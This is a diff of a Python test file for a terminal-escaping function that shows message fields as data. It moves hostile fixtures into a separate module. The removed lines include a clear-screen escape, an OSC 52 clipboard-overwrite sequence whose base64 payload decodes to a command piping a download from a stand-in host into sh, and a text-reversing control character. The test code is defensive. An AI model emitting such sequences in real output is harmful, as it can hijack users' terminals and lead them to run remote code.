@@ -1,7 +1,4 @@
-"""``terminal.visible``: message fields shown as data, never as terminal commands.
-
-``EVIL``, ``EVIL_SHOWN`` and ``raw_controls`` serve the CLI and TUI tests too.
-"""
+"""``terminal.visible``: message fields shown as data, never as terminal commands."""
 
 from __future__ import annotations
 
@@ -13,16 +10,10 @@ import pytest
 
 from pigeond.terminal import ESCAPED_CATEGORIES, json_visible, visible
 
-CLEAR_SCREEN = "\x1b[2J"
-OSC52_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
-# What the issue saw: clear the screen, overwrite the clipboard, reverse what follows.
-EVIL = CLEAR_SCREEN + OSC52_CLIPBOARD + "\u202e"
-EVIL_SHOWN = "\\x1b[2J\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07\\u202e"
-
-
-def raw_controls(text: str) -> set[str]:
-    """The control and invisible format characters in ``text``, newline aside."""
-    return {c for c in text if c != "\n" and unicodedata.category(c) in {"Cc", "Cf"}}
+# The CLI and TUI tests still import these from here; their home is tests/hostile_text.py.
+from tests.hostile_text import EVIL as EVIL
+from tests.hostile_text import EVIL_SHOWN as EVIL_SHOWN
+from tests.hostile_text import raw_controls as raw_controls
 
 
 def test_plain_text_is_unchanged() -> None:
